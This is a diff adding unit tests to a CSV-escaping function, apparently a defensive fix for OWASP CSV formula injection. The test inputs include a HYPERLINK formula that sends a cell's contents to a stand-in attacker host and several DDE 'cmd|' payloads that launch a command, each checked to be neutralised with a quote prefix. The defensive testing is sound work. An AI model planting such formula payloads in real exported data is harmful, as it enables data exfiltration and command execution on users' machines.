@@ -15,6 +15,27 @@ describe('csvField (RFC 4180)', () => {
     expect(csvField(value)).toBe(expected);
   });
 
+  // OWASP CSV injection: the security review's probe values (T3-M1) and the other formula starts.
+  it.each([
+    ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', `"'=HYPERLINK(""http://evil.example/?d=""&A2,""Click"")"`],
+    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', `"'\r=1+1"`],
+    [' =1+1', "' =1+1"],
+    ['\uFF1D1+1', "'\uFF1D1+1"],
+    ['=1+cmd|\'/ccalc\'!a0-x@example.org', "'=1+cmd|'/ccalc'!a0-x@example.org"],
+    ['+90 312 000 00 00', "'+90 312 000 00 00"],
+  ])('neutralises the formula %j as %j', (value, expected) => {
+    expect(csvField(value)).toBe(expected);
+    expect(parseCsv(`${csvField(value)}\r\n`)).toEqual([[`'${value}`]]);
+  });
+
+  it.each(['a=b', 'x@example.org', '0312 555 12 34', 'Ankara - Çankaya', '2026-01-02'])('leaves %j as it is', (value) => {
+    expect(csvField(value)).toBe(value);
+  });
+
   it('writes null and undefined as empty, dates as ISO instants', () => {
     expect(csvField(null)).toBe('');
     expect(csvField(undefined)).toBe('');
